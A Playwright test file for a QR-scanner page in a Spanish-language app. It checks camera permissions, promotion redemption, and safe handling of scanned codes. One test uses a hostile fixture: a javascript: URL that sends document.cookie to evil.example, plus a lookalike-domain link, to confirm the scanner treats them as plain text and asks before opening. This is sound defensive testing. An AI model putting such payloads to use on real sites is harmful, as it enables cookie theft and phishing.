import type { RedemptionTicket } from '@callejero/contract/answers/redemptions.ts';
import { publicUrl } from '@callejero/contract/links/public-url.ts';
import type { Page } from '@playwright/test';
import { newPerson } from '../support/accounts.ts';
import { accessible } from '../support/axe.ts';
import { answer, dialog, own, ownMark, shown } from '../support/backoffice.ts';
import type { SignedInAccount, Site } from '../support/environment.ts';
import { post } from '../support/http.ts';
import { codesIn, pictureOfCode } from '../support/qr.ts';
import { camerasOn, camerasWanted, openScanner } from '../support/scanner.ts';
import { expect, test } from '../support/test.ts';
import { hear } from '../support/toasts.ts';

test.use({ map: 'none' });

// Each journey has a browser of its own, whose camera sees a chosen code.

const aiming = (page: Page) => page.getByText('Apunta la cámara a un código QR');
async function typeCode(page: Page, text: string) {
  await page.getByRole('button', { name: 'Escribir el código' }).click();
  const asked = dialog(page, 'Escribir el código');
  await asked.getByRole('textbox', { name: 'Código o dirección' }).fill(text);
  await asked.getByRole('textbox', { name: 'Código o dirección' }).press('Enter');
}

test('the printed code of a place opens the place, without requests to other hosts @phone', async ({
  site,
  api,
}) => {
  const place = await api.newCommerce(own('Fonda'));
  const text = publicUrl({ kind: 'commerce', slug: place.slug }, site.url);
  const seeing = { text, allowed: true, unreachable: /\.wasm$/ };
  const { page, context, asked, close } = await openScanner(site, seeing);
  // The code reader could not be loaded, and is not requested from another host.
  await expect(page.getByRole('alert')).toContainText('No se pudo abrir el escáner');
  expect(await camerasOn(page)).toBe(0);
  await context.unrouteAll();
  await page.getByRole('button', { name: 'Reintentar' }).click();
  await expect(page).toHaveURL(`${site.url}/place/${place.id}`);
  await expect(page.getByRole('heading', { name: place.name })).toBeVisible();
  expect(asked.some((url) => url.endsWith('.wasm'))).toBe(true);
  expect(asked.filter((url) => !/^(?:blob|data):/.test(url) && new URL(url).origin !== site.url)).toEqual([]);
  await expect.poll(() => camerasOn(page)).toBe(0);
  await close();
});

test('a hostile code is only text; a link is opened after its host was confirmed @phone @full', async ({
  site,
}) => {
  const hostile = `javascript:location='https://evil.example/'+alert(document.cookie)//${site.url}/c/cafe`;
  const { page, context, close } = await openScanner(site, { text: hostile, allowed: true, framesLate: 150 });
  await expect(page.getByRole('heading', { name: 'Esto dice el código' })).toBeFocused();
  await expect(page.getByText(hostile)).toBeVisible();
  await expect(shown(page).locator('main a')).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Abrir enlace' })).toHaveCount(0);
  expect(page.url()).toBe(`${site.url}/qr-scan`);
  await expect.poll(() => camerasOn(page)).toBe(0);
  await accessible(page, 'text');

  // A picture with a link to a host that looks like ours.
  const link = `${site.url}.evil.example/c/cafe`.replace(/:\d+/, '');
  const picture = await pictureOfCode('QRCode', link);
  await page.getByRole('button', { name: 'Escanear otro' }).click();
  // The camera still sees the hostile code, so it is turned off to read the picture alone.
  await expect(page.getByRole('heading', { name: 'Esto dice el código' })).toBeVisible();
  await context.clearPermissions();
  await page.reload();
  await dialog(page, 'Es necesario habilitar los permisos de camara!')
    .getByRole('button', { name: 'Habilitar' })
    .click();
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: 'cartel.png', mimeType: 'image/png', buffer: picture });
  await expect(page.getByRole('heading', { name: 'Es un enlace a otro sitio' })).toBeVisible();
  await expect(page.getByText('localhost.evil.example', { exact: true })).toBeVisible();
  await context.route(/evil\.example/, (route) => route.fulfill({ body: 'otro sitio' }));
  const open = page.getByRole('button', { name: 'Abrir enlace' });
  await open.click();
  await answer(page, '¿Abrir localhost.evil.example?', 'No');
  expect(context.pages()).toHaveLength(1);
  await open.click();
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    answer(page, '¿Abrir localhost.evil.example?', 'Si'),
  ]);
  await expect(opened).toHaveURL(link);
  expect(await opened.evaluate(() => window.opener === null)).toBe(true);
  expect(page.url()).toBe(`${site.url}/qr-scan`);

  // A file that is no picture has a message.
  await page.getByRole('button', { name: 'Escanear otro' }).click();
  await dialog(page, 'Es necesario habilitar los permisos de camara!')
    .getByRole('button', { name: 'Habilitar' })
    .click();
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: 'nota.png', mimeType: 'image/png', buffer: Buffer.from('no es una imagen') });
  await hear(page, 'No se pudo leer la imagen');
  // Only QR codes are read.
  await page.locator('input[type=file]').setInputFiles({
    name: 'barras.png',
    mimeType: 'image/png',
    buffer: await pictureOfCode('EAN13', '7501055300075'),
  });
  await hear(page, 'No encontramos ningún código QR en esa imagen.');
  await close();
});

test('a person who refuses the camera is asked once, reads what to do, and scans as soon as it is allowed @phone @full', async ({
  site,
}) => {
  const { page, allow, close } = await openScanner(site, { text: null, allowed: false });
  // The page requested the rear camera, and no microphone.
  await expect.poll(() => camerasWanted(page)).toHaveLength(1);
  expect(await camerasWanted(page)).toMatchObject([{ video: { facingMode: 'environment' } }]);
  expect((await camerasWanted(page))[0]?.audio ?? false).toBe(false);
  const question = dialog(page, 'Es necesario habilitar los permisos de camara!');
  await question.getByRole('button', { name: 'Cancelar' }).click();
  await expect(page).toHaveURL(`${site.url}/account`);

  await page.goto('/qr-scan');
  await question.getByRole('button', { name: 'Habilitar' }).click();
  await expect(question).toBeHidden();
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('permite la cámara');
  await accessible(page, 'refused');
  await alert.getByRole('button', { name: 'Reintentar' }).click();
  await expect(alert).toBeVisible();
  await expect(question).toBeHidden();

  await allow();
  await expect(aiming(page)).toBeVisible();
  expect(await camerasOn(page)).toBe(1);
  await accessible(page, 'viewfinder');
  await page.getByRole('button', { name: 'Escribir el código' }).press('Enter');
  const typing = dialog(page, 'Escribir el código');
  await expect.poll(() => camerasOn(page)).toBe(0);
  await typing.getByRole('button', { name: 'Continuar' }).press('Enter');
  await expect(typing.getByText('Escribe el código.')).toBeVisible();
  // A misheard letter that no code has can be corrected at once.
  const typed = typing.getByRole('textbox', { name: 'Código o dirección' });
  await typed.fill('abcd 2345');
  await typed.press('Enter');
  await expect(typing.getByText('No es un código de la guía.')).toBeVisible();
  await expect(typed).toHaveValue('abcd 2345');
  await typing.getByRole('button', { name: 'Cerrar' }).press('Enter');
  await expect(aiming(page)).toBeVisible();
  await page.getByRole('button', { name: 'Volver' }).click();
  await expect(page).toHaveURL(`${site.url}/account`);
  await expect.poll(() => camerasOn(page)).toBe(0);
  await close();
});

function ticketOf(site: Site, { login }: SignedInAccount, promotion: string): Promise<RedemptionTicket> {
  return post(site, `/promotions/${promotion}/redemptions`, {}, login.accessToken);
}

test('at the counter the code on a person’s screen is scanned, confirmed and redeemed once, by the promotion’s owner @phone @full', async ({
  deviceOf,
  site,
  api,
}) => {
  const mark = ownMark();
  const place = await api.newCommerce(`Nevería ${mark}`);
  const owner = await newPerson(site);
  await api.changeCommerce(place, { owners: [owner.login.user.id] });
  const promotion = await api.runningPromotion(place.id, `Nieve de limón ${mark}`, { mode: 'scan' });

  const counter = await openScanner(site, { text: null, allowed: true, person: owner });
  const { page } = counter;
  await expect(aiming(page)).toBeVisible();
  const shopper = await deviceOf(await newPerson(site));
  await shopper.goto(`/promotion-page/${promotion.id}?canjear=si`);
  const qr = shopper.getByRole('img', { name: `Código QR para canjear «${promotion.title}»` });
  await expect(qr).toBeVisible();
  await expect.poll(async () => codesIn(await shopper.screenshot())).toHaveLength(1);
  const [url = ''] = await codesIn(await shopper.screenshot());
  // The code that the person reads out when the camera does not work.
  const spoken = await shopper.getByText(/^(?:\w ){3}\w, (?:\w ){3}\w$/).innerText();
  await typeCode(page, spoken.replaceAll(/[\s,]/g, '').toLowerCase());
  await expect(page.getByRole('heading', { name: promotion.title })).toBeFocused();
  await expect(page.getByText('50 % de descuento', { exact: true })).toBeVisible();
  await expect(page.getByText('Alma', { exact: true })).toBeVisible();
  await expect(page.getByText(place.name, { exact: true })).toBeVisible();
  await accessible(page, 'question');
  await page.getByRole('button', { name: 'Canjear ahora' }).click();
  await expect(page.getByRole('heading', { name: 'Promoción canjeada' })).toBeFocused();
  await expect(page.getByText('Para Alma: 50 % de descuento')).toBeVisible();
  await expect(shopper.getByRole('heading', { name: 'Promoción canjeada' })).toBeVisible();
  await accessible(page, 'redeemed');
  const done = await api.find<{ status: string }>('redemptions', { promotion: promotion.id });
  expect(done.map(({ status }) => status)).toEqual(['redeemed']);

  await page.getByRole('button', { name: 'Escanear otro' }).click();
  await typeCode(page, url);
  await expect(page.getByRole('heading', { name: 'No se puede canjear' })).toBeFocused();
  await expect(page.getByRole('alert')).toContainText(/ya se canjeó|caducó/);
  await counter.close();
});

test('a passer-by who types the code of a redemption reads where it is shown @phone @full', async ({
  site,
  api,
}) => {
  const mark = ownMark();
  const place = await api.newCommerce(`Nevería ${mark}`);
  const promotion = await api.runningPromotion(place.id, `Nieve de limón ${mark}`, { mode: 'scan' });
  const passerBy = await openScanner(site, { text: null, allowed: true });
  const another = await ticketOf(site, await newPerson(site), promotion.id);
  await typeCode(passerBy.page, another.url ?? '');
  await expect(
    passerBy.page.getByRole('heading', { name: 'Muestra este código en el comercio' }),
  ).toBeFocused();
  await passerBy.close();
});
